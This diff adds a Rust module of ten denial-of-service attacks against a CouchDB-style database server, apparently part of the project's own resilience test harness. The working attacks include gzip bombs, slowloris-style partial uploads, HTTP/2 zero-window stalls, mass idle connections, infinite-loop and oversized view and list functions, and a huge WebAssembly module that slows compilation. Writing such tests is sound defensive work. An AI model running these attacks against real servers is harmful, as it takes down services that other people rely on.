@@ -1,0 +1,287 @@
+//! The attacks. Those who attack are strangers to the server: what they use, somebody with rights has made public.
+
+use std::io::{Read, Write};
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread::{self, JoinHandle};
+use std::time::Duration;
+
+use anyhow::{Result, ensure};
+use flate2::Compression;
+use flate2::write::GzEncoder;
+
+use super::Form;
+use super::client::{Connection, base64, head, split};
+
+/// All attacks.
+pub(super) const ALL: &[Attack] = &[
+    Attack { name: "idle-connections", threads: 1, prepare: |_| Ok(()), act: idle_connections },
+    Attack { name: "gzip-bombs", threads: 8, prepare: |_| Ok(()), act: gzip_bombs },
+    Attack { name: "slow-senders", threads: 1, prepare: |_| Ok(()), act: slow_senders },
+    Attack { name: "closed-windows", threads: 1, prepare: large_documents, act: closed_windows },
+    Attack { name: "non-readers", threads: 1, prepare: large_documents, act: non_readers },
+    Attack { name: "refused-bodies", threads: 8, prepare: |_| Ok(()), act: refused_bodies },
+    Attack { name: "huge-emits", threads: 4, prepare: huge_emits, act: query_view },
+    Attack { name: "slow-compilation", threads: 4, prepare: |_| Ok(()), act: slow_compilation },
+    Attack { name: "hanging-functions", threads: 60, prepare: hanging_functions, act: query_view },
+    Attack { name: "endless-lists", threads: 100, prepare: endless_lists, act: endless_list },
+];
+
+/// One of them.
+pub(super) struct Attack {
+    pub(super) name: &'static str,
+    /// How many act at a time.
+    threads: usize,
+    /// Makes what it uses.
+    prepare: fn(&Target) -> Result<()>,
+    /// Is called again and again until it is enough.
+    act: fn(&Target, &AtomicBool),
+}
+
+/// Who is attacked.
+pub(super) struct Target {
+    address: SocketAddr,
+    /// For what is prepared.
+    admin: String,
+    form: Form,
+}
+
+impl Target {
+    pub(super) fn prepare(url: &str, form: Form, attack: &Attack) -> Result<Self> {
+        let (address, admin) = split(url)?;
+        let target = Self { address, admin, form };
+        target.make("PUT /public", b"")?;
+        target.make("PUT /public/_security", br#"{"admins":{"roles":[]},"members":{"roles":[]}}"#)?;
+        (attack.prepare)(&target)?;
+        Ok(target)
+    }
+
+    fn make(&self, line: &str, body: &[u8]) -> Result<()> {
+        let (status, text) = Connection::open(self.address)?.ask(line, &self.admin, body)?;
+        ensure!(matches!(status, 200..=202), "{line}: {status} {}", String::from_utf8_lossy(&text));
+        Ok(())
+    }
+
+    /// So many in the short form, and in the long one.
+    fn count(&self, short: usize, long: usize) -> usize {
+        if self.form == Form::Short { short } else { long }
+    }
+}
+
+impl Attack {
+    /// Begins. The threads end when `stop` is true.
+    pub(super) fn begin(&'static self, target: &Arc<Target>, stop: &Arc<AtomicBool>) -> Vec<JoinHandle<()>> {
+        let one = || {
+            let (target, stop) = (Arc::clone(target), Arc::clone(stop));
+            thread::spawn(move || {
+                while !stop.load(Ordering::Relaxed) {
+                    (self.act)(&target, &stop);
+                }
+            })
+        };
+        (0..self.threads).map(|_| one()).collect()
+    }
+}
+
+fn wait(stop: &AtomicBool) {
+    while !stop.load(Ordering::Relaxed) {
+        thread::sleep(Duration::from_millis(20));
+    }
+}
+
+fn idle_connections(target: &Target, stop: &AtomicBool) {
+    let wanted = target.count(1200, 5000);
+    let connections: Vec<_> = (0..wanted).map_while(|_| Connection::open(target.address).ok()).collect();
+    // The next database needs files of its own.
+    let made = Connection::open(target.address).and_then(|mut open| open.ask("PUT /another", &target.admin, b""));
+    drop(made);
+    wait(stop);
+    drop(connections);
+}
+
+fn gzip_bombs(target: &Target, stop: &AtomicBool) {
+    let megabytes = target.count(200, 1000);
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
+    let spaces = vec![b' '; 1 << 20];
+    for _ in 0..megabytes {
+        // It is written to memory.
+        let _ = encoder.write_all(&spaces);
+    }
+    let bomb = encoder.finish().unwrap_or_default();
+    while !stop.load(Ordering::Relaxed) {
+        for line in ["POST /_session", "PUT /public/doc", "POST /public/_bulk_docs", "POST /public/_find"] {
+            let Ok(mut connection) = Connection::open(target.address) else { return };
+            let _ = connection.ask(line, "Content-Encoding: gzip\r\n", &bomb);
+        }
+    }
+}
+
+/// Sends nearly all of a body.
+fn slow_senders(target: &Target, stop: &AtomicBool) {
+    let body = vec![b' '; 4_000_000];
+    let mut connections = Vec::new();
+    while connections.len() < target.count(300, 2000) && !stop.load(Ordering::Relaxed) {
+        let Ok(mut connection) = Connection::open(target.address) else { continue };
+        let _ = connection.stream().set_write_timeout(Some(Duration::from_millis(200)));
+        let begun = connection.write(&head("PUT /public/doc", "", body.len() + 1));
+        let _ = begun.and_then(|()| connection.write(&body));
+        connections.push(connection);
+    }
+    wait(stop);
+}
+
+const LARGE_PATHS: [&str; 3] =
+    ["/public/large", "/public/_all_docs?include_docs=true", "/public/_changes?include_docs=true"];
+
+fn large_documents(target: &Target) -> Result<()> {
+    let large = format!("{{\"text\":\"{}\"}}", "x".repeat(5_000_000));
+    for name in ["large", "large2", "large3", "large4"] {
+        target.make(&format!("PUT /public/{name}"), large.as_bytes())?;
+    }
+    Ok(())
+}
+
+/// A connection of HTTP/2 whose windows let nothing through, with 90 requests.
+fn closed_windows(target: &Target, stop: &AtomicBool) {
+    let mut connections = Vec::new();
+    for _ in 0..target.count(10, 50) {
+        let Ok(mut connection) = Connection::open(target.address) else { continue };
+        // SETTINGS with INITIAL_WINDOW_SIZE 0, and another one to say that those of the server were seen.
+        let mut text =
+            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0\0\0\0\x04\x01\0\0\0\0".to_vec();
+        for stream in 0..90_u32 {
+            let path = LARGE_PATHS[stream as usize % LARGE_PATHS.len()];
+            // GET and http of the static table, the path and the authority as they are.
+            let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
+            block.extend_from_slice(path.as_bytes());
+            block.extend_from_slice(b"\x01\x01x");
+            text.extend_from_slice(&[0, 0, block.len() as u8, 1, 5]);
+            text.extend_from_slice(&(2 * stream + 1).to_be_bytes());
+            text.extend_from_slice(&block);
+        }
+        let _ = connection.write(&text);
+        connections.push(connection);
+    }
+    // Who was cut off comes back.
+    for _ in 0..50 {
+        if stop.load(Ordering::Relaxed) {
+            return;
+        }
+        thread::sleep(Duration::from_millis(100));
+    }
+}
+
+fn non_readers(target: &Target, stop: &AtomicBool) {
+    let mut connections = Vec::new();
+    for number in 0..target.count(300, 2000) {
+        let Ok(mut connection) = Connection::open(target.address) else { continue };
+        let _ = connection.write(&head(&format!("GET {}", LARGE_PATHS[number % LARGE_PATHS.len()]), "", 0));
+        connections.push(connection);
+        if stop.load(Ordering::Relaxed) {
+            return;
+        }
+    }
+    for _ in 0..50 {
+        if stop.load(Ordering::Relaxed) {
+            return;
+        }
+        thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// Streams what is refused: a wrong password, a database that is not there.
+fn refused_bodies(target: &Target, _: &AtomicBool) {
+    let chunk = [&b"10000\r\n"[..], &vec![b'x'; 1 << 16], b"\r\n"].concat();
+    for (path, who) in [("/nothing/doc/a", ""), ("/probe/doc/a", ""), ("/public/d/a", "Authorization: Basic eDp5\r\n")]
+    {
+        let Ok(mut connection) = Connection::open(target.address) else { return };
+        let begin = format!("PUT {path} HTTP/1.1\r\nHost: x\r\n{who}Transfer-Encoding: chunked\r\n\r\n");
+        let sent = connection.write(begin.as_bytes());
+        let _ = sent.and_then(|()| (0..64).try_for_each(|_| connection.write(&chunk)));
+        let _ = connection.write(b"0\r\n\r\n").and_then(|()| connection.answer());
+    }
+}
+
+fn sixteen_documents(target: &Target) -> Result<()> {
+    let docs: Vec<String> = (0..16).map(|number| format!("{{\"_id\":\"{number}\"}}")).collect();
+    target.make("POST /public/_bulk_docs", format!("{{\"docs\":[{}]}}", docs.join(",")).as_bytes())
+}
+
+fn view(target: &Target, map: &str) -> Result<()> {
+    sixteen_documents(target)?;
+    target.make("PUT /public/_design/d", format!("{{\"views\":{{\"v\":{{\"map\":\"{map}\"}}}}}}").as_bytes())
+}
+
+fn huge_emits(target: &Target) -> Result<()> {
+    view(target, "function(doc){var s='x';while(s.length<60000000){s+=s}emit(s,null)}")
+}
+
+fn hanging_functions(target: &Target) -> Result<()> {
+    view(target, "function(doc){while(true){}}")
+}
+
+fn query_view(target: &Target, _: &AtomicBool) {
+    let Ok(mut connection) = Connection::open(target.address) else { return };
+    let _ = connection.stream().set_read_timeout(Some(Duration::from_secs(10)));
+    let _ = connection.ask("GET /public/_design/d/_view/v?limit=1", "", b"");
+}
+
+fn endless_lists(target: &Target) -> Result<()> {
+    sixteen_documents(target)?;
+    let list = "function(head,req){start({});while(true){send('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')}}";
+    let text =
+        format!("{{\"views\":{{\"v\":{{\"map\":\"function(doc){{emit(1)}}\"}}}},\"lists\":{{\"l\":\"{list}\"}}}}");
+    target.make("PUT /public/_design/d", text.as_bytes())
+}
+
+fn endless_list(target: &Target, stop: &AtomicBool) {
+    let Ok(mut connection) = Connection::open(target.address) else { return };
+    let _ = connection.write(&head("GET /public/_design/d/_list/l/v", "", 0));
+    let mut buffer = [0; 4096];
+    let mut stream = connection.stream();
+    while !stop.load(Ordering::Relaxed) && stream.read(&mut buffer).is_ok_and(|length| length > 0) {}
+}
+
+/// Saves design documents with modules of one large function. Only admins may, so somebody was talked into it.
+fn slow_compilation(target: &Target, _: &AtomicBool) {
+    let module = base64(&module(target.count(200_000, 1_300_000)));
+    let text = format!("{{\"language\":\"wasm\",\"views\":{{\"v\":{{\"map\":\"{module}\"}}}}}}");
+    let Ok(mut connection) = Connection::open(target.address) else { return };
+    let _ = connection.ask("PUT /public/_design/w", &target.admin, text.as_bytes());
+}
+
+/// A module with the exports of the contract, whose map function has so many instructions.
+fn module(instructions: usize) -> Vec<u8> {
+    let mut out = b"\0asm\x01\0\0\0".to_vec();
+    // (i32) -> i32 and (i32, i32) -> i32, a function of each, a memory of one page.
+    section(&mut out, 1, b"\x02\x60\x01\x7f\x01\x7f\x60\x02\x7f\x7f\x01\x7f");
+    section(&mut out, 3, b"\x02\0\x01");
+    section(&mut out, 5, b"\x01\0\x01");
+    section(&mut out, 7, b"\x03\x06memory\x02\0\x0csettee_alloc\0\0\x03map\0\x01");
+    // Sums that depend on each other, and no locals beside the arguments.
+    let mut body = vec![0, 0x20, 0];
+    for _ in 0..instructions / 2 {
+        body.extend_from_slice(b"\x20\x01\x6a\x20\x00\x6c");
+    }
+    body.push(0x0b);
+    let mut code = vec![2, 4, 0, 0x41, 0, 0x0b];
+    leb(&mut code, body.len());
+    code.extend_from_slice(&body);
+    section(&mut out, 10, &code);
+    out
+}
+
+fn section(out: &mut Vec<u8>, id: u8, content: &[u8]) {
+    out.push(id);
+    leb(out, content.len());
+    out.extend_from_slice(content);
+}
+
+fn leb(out: &mut Vec<u8>, mut value: usize) {
+    while value >= 0x80 {
+        out.push((value & 0x7f | 0x80) as u8);
+        value >>= 7;
+    }
+    out.push(value as u8);
+}
